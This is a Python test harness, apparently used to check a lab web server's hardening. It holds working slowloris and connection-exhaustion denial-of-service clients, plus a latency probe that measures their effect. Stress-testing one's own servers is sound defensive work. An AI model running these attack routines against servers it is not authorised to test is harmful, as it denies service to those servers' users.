#!/usr/bin/env python3
"""Hostile and measuring clients for servelab's hardening scripts (stdlib only).

  hostile.py slowloris HOST:PORT --conns N --interval S --duration S
      Keeps N connections open, each sending one more byte of a request head that
      never ends every S seconds, reconnecting any the server closes. Prints how
      many connections were opened and how many the server cut off.
  hostile.py probe HOST:PORT --duration S --path P [--pace S] [--timeout S]
      A normal client: one request per fresh connection, back to back (or every
      PACE seconds), for S seconds. Prints count, failures and latency
      percentiles (ms) as one JSON line.
  hostile.py hold HOST:PORT --conns N --duration S
      Opens up to N idle connections as fast as possible and holds them
      (descriptor exhaustion); prints how many connects succeeded.

Why Python: these clients need per-connection control (a byte at a time, raw
resets) more than speed; the attack rates are tiny.
"""
import argparse
import json
import selectors
import socket
import sys
import time

HEAD = (b"GET / HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: hostile.py\r\nX-Pad: "
        + b"a" * 4096)


def addr(s):
    host, port = s.rsplit(":", 1)
    return host, int(port)


def slowloris(a):
    target = addr(a.target)
    socks = {}  # slot -> (sock, pos)
    opened = cut = failed_connect = 0
    end = time.monotonic() + a.duration
    next_tick = time.monotonic()
    while time.monotonic() < end:
        for slot in range(a.conns):
            entry = socks.get(slot)
            if entry is None:
                s = socket.socket()
                s.setblocking(False)
                try:
                    s.connect(target)
                except BlockingIOError:
                    pass
                except OSError:
                    failed_connect += 1
                    s.close()
                    continue
                socks[slot] = (s, 0)
                opened += 1
                continue
            s, pos = entry
            closed = False
            try:
                if s.recv(4096, socket.MSG_DONTWAIT) is not None:
                    closed = True  # EOF or an answer (408): the server ended it
            except BlockingIOError:
                pass
            except OSError:
                closed = True
            if not closed:
                try:
                    s.send(HEAD[pos % len(HEAD):pos % len(HEAD) + 1])
                    pos += 1
                except BlockingIOError:
                    pass
                except OSError:
                    closed = True
            if closed:
                cut += 1
                s.close()
                del socks[slot]
            else:
                socks[slot] = (s, pos)
        next_tick += a.interval
        time.sleep(max(0.0, next_tick - time.monotonic()))
    for s, _ in socks.values():
        s.close()
    print(json.dumps({"attack": "slowloris", "conns": a.conns, "interval_s": a.interval,
                      "opened": opened, "cut_by_server": cut,
                      "connect_failures": failed_connect}))


def pct(xs, p):
    if not xs:
        return None
    xs = sorted(xs)
    k = min(len(xs) - 1, max(0, int(round(p / 100.0 * len(xs) + 0.5)) - 1))
    return round(xs[k], 3)


def probe(a):
    target = addr(a.target)
    req = ("GET %s HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n" % a.path).encode()
    lat, fails, statuses = [], 0, {}
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            s = socket.create_connection(target, timeout=a.timeout)
            s.settimeout(a.timeout)
            s.sendall(req)
            data = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            s.close()
            status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/1.1 ") else 0
        except (OSError, ValueError, IndexError):
            status = 0
        dt = (time.monotonic() - t0) * 1000.0
        statuses[status] = statuses.get(status, 0) + 1
        if status == 200:
            lat.append(dt)
        else:
            fails += 1
        if a.pace:
            time.sleep(max(0.0, a.pace - (time.monotonic() - t0)))
    print(json.dumps({"probe": a.path, "requests": len(lat) + fails, "ok": len(lat),
                      "failed": fails, "statuses": {str(k): v for k, v in statuses.items()},
                      "p50_ms": pct(lat, 50), "p99_ms": pct(lat, 99), "max_ms": pct(lat, 100)}))


def hold(a):
    target = addr(a.target)
    held, failed = [], 0
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        if len(held) < a.conns:
            try:
                s = socket.create_connection(target, timeout=1.0)
                held.append(s)
            except OSError:
                failed += 1
                time.sleep(0.01)
        else:
            time.sleep(0.05)
    n = len(held)
    for s in held:
        s.close()
    print(json.dumps({"attack": "hold", "connected": n, "connect_failures": failed}))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("slowloris")
    s.add_argument("target")
    s.add_argument("--conns", type=int, default=1000)
    s.add_argument("--interval", type=float, default=1.0)
    s.add_argument("--duration", type=float, default=30.0)
    s = sub.add_parser("probe")
    s.add_argument("target")
    s.add_argument("--path", default="/")
    s.add_argument("--duration", type=float, default=10.0)
    s.add_argument("--pace", type=float, default=0.0)
    s.add_argument("--timeout", type=float, default=30.0)
    s = sub.add_parser("hold")
    s.add_argument("target")
    s.add_argument("--conns", type=int, default=200)
    s.add_argument("--duration", type=float, default=10.0)
    a = p.parse_args()
    {"slowloris": slowloris, "probe": probe, "hold": hold}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
